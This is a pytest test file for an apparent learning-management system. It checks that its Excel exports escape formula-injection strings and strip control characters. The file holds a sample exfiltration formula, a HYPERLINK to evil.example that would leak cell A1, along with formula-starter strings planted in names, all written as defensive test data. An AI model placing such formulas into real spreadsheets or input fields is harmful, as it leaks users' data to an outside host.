"""Every .xlsx export writes text as text and survives control characters (docs/SECURITY.md, "Exports")."""
from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from lms.core.spreadsheets import safe_cell
from lms.org.models import OrgUnit, User
from tests.programme import Programme

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
STARTERS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", STARTERS + [EVIL])
def test_formula_starters_become_text(text):
    assert safe_cell(text) == "'" + text


def test_control_characters_are_dropped_and_plain_values_kept():
    assert safe_cell("一班\x01\x02\x1f") == "一班"
    assert safe_cell("张三") == "张三" and safe_cell(12) == 12 and safe_cell(None) is None and safe_cell(1.5) == 1.5


def _cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(data: bytes, *texts: str) -> None:
    cells = _cells(data)
    assert all(cell.data_type != "f" for cell in cells), [c.value for c in cells if c.data_type == "f"]
    values = [str(c.value) for c in cells if c.value is not None]
    for text in texts:
        assert any(text in value for value in values), (text, values)
    assert not any(value.startswith(("=", "+", "-", "@")) for value in values if not value.lstrip("-").replace(
        ".", "", 1).isdigit())


@pytest.fixture
def programme(app, make, tree, rename):
    """A class whose teacher, school, class name and city carry a formula or a control character."""
    p = Programme(app)
    tutor = make.user(tree["province"], "tutor")
    teacher = make.user(tree["school111"], "teacher", name="李雷")
    project = p.project()
    batch = p.batch(project)
    klass = p.klass(batch, p.course(title="课程\x02"), tutor_ids=[tutor.id])
    p.seats_down_to(batch, tree, "school111", 2)
    p.enroll(klass, teacher)
    rename(User, teacher.id, name=EVIL)
    rename(OrgUnit, tree["school111"].id, name="学校\x01=1")
    rename(OrgUnit, tree["city1"].id, name="@city\x03")
    rename(OrgUnit, tree["county11"].id, name="-1+2")
    return {"batch": batch, "class": klass, "tutor": tutor}


def test_grades_export(api, programme):
    r = api.get(f"/classes/{programme['class']}/grades.xlsx", programme["tutor"])
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    assert_no_formula(r.data, "'" + EVIL, "学校=1")


def test_participation_export(api, make, tree, programme):
    r = api.get(f"/reports/participation.xlsx?batch_id={programme['batch']}", make.admin(tree["province"]))
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    assert_no_formula(r.data, "'@city")


def test_quota_exports(api, app, make, tree, programme):
    r = api.get(f"/batches/{programme['batch']}/quotas.xlsx?parent_id={tree['city1'].id}", make.admin(tree["city1"]))
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    assert_no_formula(r.data, "'-1+2", "'@city")


def test_quota_page_export(app, make, tree, programme):
    from tests.helpers import sign_in

    client = app.test_client()
    sign_in(client, make.admin(tree["city1"]))
    r = client.get(f"/quotas/batches/{programme['batch']}/units/{tree['city1'].id}/export.xlsx")
    assert r.status_code == 200
    assert_no_formula(r.data, "'-1+2")


def test_import_template(app, make, tree):
    from tests.helpers import sign_in

    client = app.test_client()
    sign_in(client, make.admin(tree["province"]))
    r = client.get("/org/users/import/template.xlsx")
    assert r.status_code == 200
    assert_no_formula(r.data, "张三")
